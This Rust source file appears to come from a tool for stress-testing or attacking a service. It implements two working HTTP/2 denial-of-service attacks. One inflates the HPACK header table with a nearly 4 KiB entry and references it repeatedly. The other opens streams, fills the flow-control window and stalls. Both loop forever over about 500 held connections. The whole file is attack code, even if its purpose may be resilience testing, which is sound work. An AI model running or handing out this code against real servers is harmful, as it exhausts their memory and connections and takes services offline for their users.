//! Many parallel requests on each of many connections, with the frames of RFC 9113: headers that
//! are sent once and referenced repeatedly, and bodies that stop.

use std::io::Write as _;
use std::net::{SocketAddr, TcpStream};

use crate::attack::{Attack, open, raise_open_files};

pub(crate) const HEADS: Attack = Attack::new("http2-heads", |target| hold(target.exporter, heads));
pub(crate) const BODIES: Attack = Attack::new("http2-bodies", |target| hold(target.exporter, bodies));

const CONNECTIONS: usize = 500;
/// The preface of a client, and empty settings.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const HEADERS: u8 = 1;
const DATA: u8 = 0;
const END_HEADERS: u8 = 4;
/// Entries of the static table of RFC 7541: POST over plain HTTP, and the index of a path.
const POST: &[u8] = b"\x83\x86";
const PATH: u8 = 0x04;

fn hold(addr: SocketAddr, frames: fn() -> Vec<u8>) -> anyhow::Result<()> {
    raise_open_files()?;
    let frames = frames();
    let mut held = Vec::new();
    loop {
        for _ in 0..CONNECTIONS {
            held.push(begin(addr, &frames).ok());
        }
        held.drain(..held.len().saturating_sub(CONNECTIONS));
    }
}

fn begin(addr: SocketAddr, frames: &[u8]) -> anyhow::Result<TcpStream> {
    let mut stream = open(addr)?;
    stream.write_all(PREFACE)?;
    stream.set_nonblocking(true)?;
    let _ = stream.write(frames);
    Ok(stream)
}

/// Adds a header of nearly 4 KiB to the table, which each further request references three times.
fn heads() -> Vec<u8> {
    let mut large = request("/v1/events");
    large.push(0x40);
    large.extend(text(b"x"));
    large.extend(text(&[b'a'; 3_900]));
    let mut frames = frame(HEADERS, 1, &large);
    let named = [request("/v1/events"), vec![0xbe; 3]].concat();
    (1..64).for_each(|n| frames.extend(frame(HEADERS, 2 * n + 1, &named)));
    frames
}

/// As much of four bodies as the window allows, and nothing more.
fn bodies() -> Vec<u8> {
    let mut frames = Vec::new();
    for n in 0..4 {
        frames.extend(frame(HEADERS, 2 * n + 1, &request("/v1/metrics")));
        frames.extend(frame(DATA, 2 * n + 1, &[b'a'; 16_000]));
    }
    frames
}

fn request(path: &str) -> Vec<u8> {
    [POST, &[PATH], &text(path.as_bytes()), b"\0", &text(b":authority"), &text(b"localhost")].concat()
}

/// A text in HPACK, without Huffman coding.
fn text(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    if let Some(mut rest) = bytes.len().checked_sub(127) {
        out.push(127);
        while rest >= 128 {
            out.push((rest % 128 + 128) as u8);
            rest /= 128;
        }
        out.push(rest as u8);
    } else {
        out.push(bytes.len() as u8);
    }
    out.extend_from_slice(bytes);
    out
}

fn frame(kind: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let flags = if kind == HEADERS { END_HEADERS } else { 0 };
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
